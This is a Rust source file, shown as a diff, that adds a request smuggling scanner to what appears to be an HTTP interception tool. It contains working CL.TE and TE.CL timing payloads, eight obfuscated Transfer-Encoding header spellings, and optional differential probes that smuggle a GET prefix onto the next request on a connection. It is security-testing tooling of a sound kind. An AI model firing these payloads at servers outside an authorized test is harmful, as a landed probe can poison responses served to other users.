@@ -0,0 +1,308 @@
+// Request smuggling probes: CL.TE and TE.CL timing tests, with Transfer-Encoding spellings
+// that a front end and a back end may disagree on. Differential probes, which confirm a timing
+// hit by smuggling a prefix onto the next request, only run when asked for: one that lands can
+// poison the connection another user's request reuses.
+
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use tracing::info;
+
+use crate::app::{App, HttpLog};
+use crate::error_page::Failure;
+use crate::http;
+use crate::issues::{Issue, Severity};
+use crate::repeater::Repeater;
+use crate::send;
+use crate::throttle;
+
+/// How long a probe may go unanswered before it counts as a desync
+const PROBE_WAIT: Duration = Duration::from_secs(10);
+/// Where a differential probe's smuggled request goes; the next request answered from there shows the desync
+const SMUGGLED_PATH: &str = "/belch-smuggled";
+
+/// Transfer-Encoding headers exactly as written on the wire
+const TE_FORMS: [(&str, &str); 8] = [
+    ("plain", "Transfer-Encoding: chunked"),
+    ("space before colon", "Transfer-Encoding : chunked"),
+    ("tab separator", "Transfer-Encoding:\tchunked"),
+    ("xchunked", "Transfer-Encoding: xchunked"),
+    ("second TE header", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
+    ("folded value", "Transfer-Encoding:\r\n chunked"),
+    ("bare LF before", "X-Belch: 1\nTransfer-Encoding: chunked"),
+    ("uppercase value", "Transfer-Encoding: CHUNKED"),
+];
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub enum Technique {
+    /// Front end goes by Content-Length, back end by Transfer-Encoding
+    ClTe,
+    /// Front end goes by Transfer-Encoding, back end by Content-Length
+    TeCl,
+}
+
+impl Technique {
+    pub fn label(self) -> &'static str {
+        match self {
+            Technique::ClTe => "CL.TE",
+            Technique::TeCl => "TE.CL",
+        }
+    }
+
+    /// Content-Length and body: the back end is left waiting for bytes that never come
+    fn body(self) -> (usize, &'static str) {
+        match self {
+            // The front end forwards `1\r\nZ`; the back end waits for the next chunk
+            Technique::ClTe => (4, "1\r\nZ\r\nQ"),
+            // The front end forwards `0\r\n\r\n`; the back end waits for a sixth byte
+            Technique::TeCl => (6, "0\r\n\r\nX"),
+        }
+    }
+
+    /// Content-Length and body that leave a request for `SMUGGLED_PATH` queued at the back end,
+    /// so the next request on that connection is answered as if it asked for it
+    fn differential(self, host: &str) -> (usize, String) {
+        match self {
+            // The back end stops at the last chunk; the rest prefixes the next request, whose
+            // request line ends up in X-Ignore
+            Technique::ClTe => {
+                let body = format!("0\r\n\r\nGET {} HTTP/1.1\r\nX-Ignore: X", SMUGGLED_PATH);
+                (body.len(), body)
+            }
+            // The back end reads only the chunk size line; the chunk is the next request, and its
+            // Content-Length swallows the start of the one after
+            Technique::TeCl => {
+                let inner = format!("GET {} HTTP/1.1\r\nHost: {}\r\nContent-Length: 15\r\n\r\nx=1", SMUGGLED_PATH, host);
+                let size = format!("{:x}\r\n", inner.len());
+                (size.len(), format!("{}{}\r\n0\r\n\r\n", size, inner))
+            }
+        }
+    }
+}
+
+#[derive(Clone, Copy)]
+pub struct Outcome {
+    /// None when there was no answer
+    pub status: Option<u16>,
+    /// Decoded response body size
+    pub len: usize,
+    pub elapsed: Duration,
+    pub timed_out: bool,
+}
+
+pub struct Probe {
+    pub technique: Technique,
+    pub form: &'static str,
+    /// Exactly the bytes sent
+    pub request: Vec<u8>,
+    /// None until sent; stays None when skipped
+    pub outcome: Option<Outcome>,
+    /// Not sent because the same form already timed out as CL.TE
+    pub skipped: bool,
+    /// The differential probe sent to confirm a timeout, and the answer to the request after it
+    pub confirm: Option<(Vec<u8>, Outcome)>,
+}
+
+pub struct SmuggleRun {
+    pub url: String,
+    pub baseline: Option<Outcome>,
+    pub probes: Vec<Probe>,
+    /// Follow each timeout with a differential probe
+    pub confirming: bool,
+    pub running: bool,
+    /// Probe row selected in the popup
+    pub selected: usize,
+    /// The entry probed, for opening a probe in the Repeater
+    log: HttpLog,
+    /// Identifies the run, so a replaced one stops writing
+    run: Arc<()>,
+}
+
+impl SmuggleRun {
+    /// The baseline was answered promptly and this probe was not answered at all
+    pub fn suspicious(&self, probe: &Probe) -> bool {
+        match (self.baseline, probe.outcome) {
+            (Some(base), Some(o)) => !base.timed_out && base.status.is_some() && o.timed_out,
+            _ => false,
+        }
+    }
+
+    /// The request after the probe was answered differently from the request itself
+    pub fn confirmed(&self, probe: &Probe) -> bool {
+        match (self.baseline, &probe.confirm) {
+            (Some(base), Some((_, o))) => o.status != base.status,
+            _ => false,
+        }
+    }
+
+    /// The selected probe's exact bytes in a raw Repeater, to adjust and send by hand
+    pub fn repeater(&self) -> Option<Repeater> {
+        let probe = self.probes.get(self.selected)?;
+        let request = probe.confirm.as_ref().map_or(&probe.request, |(attack, _)| attack);
+        Some(Repeater::raw(&self.log, request))
+    }
+}
+
+/// The captured request as a POST without any body framing; its head without the blank line
+fn base_head(log: &HttpLog) -> String {
+    let request = ["content-length", "transfer-encoding"].iter().fold(send::replayable(log), |r, h| http::remove_header(&r, h));
+    let head = String::from_utf8_lossy(http::split_raw(&request).0).to_string();
+    match head.split_once(' ') {
+        Some((method, rest)) if method.eq_ignore_ascii_case("GET") || method.eq_ignore_ascii_case("HEAD") => format!("POST {}", rest),
+        _ => head,
+    }
+}
+
+fn build(head: &str, te: &str, (length, body): (usize, &str)) -> Vec<u8> {
+    format!("{}\r\nContent-Length: {}\r\n{}\r\n\r\n{}", head, length, te, body).into_bytes()
+}
+
+async fn fire(app: &Arc<Mutex<App>>, log: &HttpLog, request: &[u8]) -> Outcome {
+    let via = app.lock().unwrap().routes.route(&log.host).cloned();
+    let port = send::target_port(log);
+    let _permit = throttle::acquire(&log.host).await;
+    let sent = Instant::now();
+    // send::send writes the bytes untouched, so the odd framing reaches the server as built
+    match tokio::time::timeout(PROBE_WAIT, send::send(&log.host, port, log.tls, request, via.as_ref())).await {
+        Ok(Ok(raw)) => {
+            let (head, body) = http::split_raw(&raw);
+            let head = String::from_utf8_lossy(head);
+            Outcome { status: http::status_code(&head), len: http::decode_body(&head, body).len(), elapsed: sent.elapsed(), timed_out: false }
+        }
+        Ok(Err((failure, _))) => Outcome { status: None, len: 0, elapsed: sent.elapsed(), timed_out: matches!(failure, Failure::Timeout) },
+        Err(_) => Outcome { status: None, len: 0, elapsed: sent.elapsed(), timed_out: true },
+    }
+}
+
+/// The Transfer-Encoding header a form is spelled as
+fn te_header(form: &str) -> &'static str {
+    TE_FORMS.iter().find(|(f, _)| *f == form).map_or(TE_FORMS[0].1, |(_, te)| te)
+}
+
+/// Status and size of an answer, for an issue's detail
+fn answer(o: &Outcome) -> String {
+    match (o.status, o.timed_out) {
+        (_, true) => "not at all".to_string(),
+        (None, false) => "with a failure".to_string(),
+        (Some(s), false) => format!("{} ({} bytes)", s, o.len),
+    }
+}
+
+/// Printable copy of raw bytes for an issue's detail
+fn escape(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).replace('\r', "\\r").replace('\n', "\\n\n").replace('\t', "\\t")
+}
+
+/// `:smuggle [confirm|show|stop]`: run the timing probes against the selected entry's server,
+/// with `confirm` following each timeout with a differential probe
+pub fn command(guard: &mut App, app: Arc<Mutex<App>>, args: &[&str]) {
+    let confirming = match args {
+        [] => false,
+        ["confirm"] => true,
+        ["show"] => return guard.show_smuggle = guard.smuggle.is_some(),
+        ["stop"] => {
+            if let Some(run) = guard.smuggle.as_mut() {
+                run.running = false;
+            }
+            return;
+        }
+        _ => return guard.set_status("usage: :smuggle [confirm|show|stop]"),
+    };
+    let Some(log) = guard.selected_log().filter(|l| !l.request_raw.is_empty() && !l.websocket).cloned() else {
+        return guard.set_status("Select a captured request to probe");
+    };
+    let head = base_head(&log);
+    let probes = TE_FORMS.iter()
+        .flat_map(|(form, te)| [Technique::ClTe, Technique::TeCl].map(|t| Probe {
+            technique: t,
+            form,
+            request: build(&head, te, t.body()),
+            outcome: None,
+            skipped: false,
+            confirm: None,
+        }))
+        .collect();
+    let run = Arc::new(());
+    guard.smuggle = Some(SmuggleRun {
+        url: log.full_url(),
+        baseline: None,
+        probes,
+        confirming,
+        running: true,
+        selected: 0,
+        log: log.clone(),
+        run: run.clone(),
+    });
+    guard.show_smuggle = true;
+    tokio::spawn(async move {
+        let base = fire(&app, &log, &send::replayable(&log)).await;
+        let probes: Vec<(Technique, &str, &str, Vec<u8>)> = {
+            let mut guard = app.lock().unwrap();
+            let Some(state) = guard.smuggle.as_mut().filter(|s| Arc::ptr_eq(&s.run, &run)) else { return };
+            state.baseline = Some(base);
+            state.probes.iter().map(|p| (p.technique, p.form, te_header(p.form), p.request.clone())).collect()
+        };
+        let (mut found, mut confirmed) = (0, 0);
+        for (i, (technique, form, te, request)) in probes.into_iter().enumerate() {
+            // A TE.CL probe after a CL.TE hit would leave a stray byte queued for the next user
+            let skip = technique == Technique::TeCl && {
+                let guard = app.lock().unwrap();
+                guard.smuggle.as_ref().is_some_and(|s| i > 0 && s.suspicious(&s.probes[i - 1]))
+            };
+            let outcome = if skip { None } else { Some(fire(&app, &log, &request).await) };
+            let suspicious = {
+                let mut guard = app.lock().unwrap();
+                // Stopped, or replaced by a newer run
+                let Some(state) = guard.smuggle.as_mut().filter(|s| s.running && Arc::ptr_eq(&s.run, &run)) else { return };
+                state.probes[i].outcome = outcome;
+                state.probes[i].skipped = skip;
+                state.suspicious(&state.probes[i])
+            };
+            if !suspicious {
+                continue;
+            }
+            found += 1;
+            let mut detail = format!(
+                "No answer within {}s to a {} probe (Transfer-Encoding {}), while the request itself was answered in {} ms.\nSent:\n{}",
+                PROBE_WAIT.as_secs(), technique.label(), form, base.elapsed.as_millis(), escape(&request),
+            );
+            let mut confirm = None;
+            if confirming {
+                // The captured request straight after, as another user's would arrive
+                let (length, body) = technique.differential(&log.host);
+                let attack = build(&head, te, (length, &body));
+                let _ = fire(&app, &log, &attack).await;
+                let after = fire(&app, &log, &send::replayable(&log)).await;
+                detail.push_str(&format!(
+                    "\n\nDifferential probe: the request sent next was answered {} (the request alone: {}).\nSent:\n{}",
+                    answer(&after), answer(&base), escape(&attack),
+                ));
+                confirm = Some((attack, after));
+            }
+            let mut guard = app.lock().unwrap();
+            let Some(state) = guard.smuggle.as_mut().filter(|s| s.running && Arc::ptr_eq(&s.run, &run)) else { return };
+            state.probes[i].confirm = confirm;
+            let title = match state.confirmed(&state.probes[i]) {
+                true => {
+                    confirmed += 1;
+                    "Request smuggling confirmed"
+                }
+                false => "Possible request smuggling",
+            };
+            guard.add_issue(Issue {
+                severity: Severity::High,
+                host: log.host.clone(),
+                url: log.full_url(),
+                title: format!("{} ({}, {})", title, technique.label(), form),
+                detail,
+            });
+        }
+        let mut guard = app.lock().unwrap();
+        if let Some(state) = guard.smuggle.as_mut().filter(|s| Arc::ptr_eq(&s.run, &run)) {
+            state.running = false;
+        }
+        info!("smuggling probes of {} finished: {} timed out, {} confirmed", log.full_url(), found, confirmed);
+        let confirmed = if confirming { format!(", {} confirmed", confirmed) } else { String::new() };
+        guard.set_status(format!("Smuggling probes {}: {} suspicious timeout(s){}", log.host, found, confirmed));
+    });
+}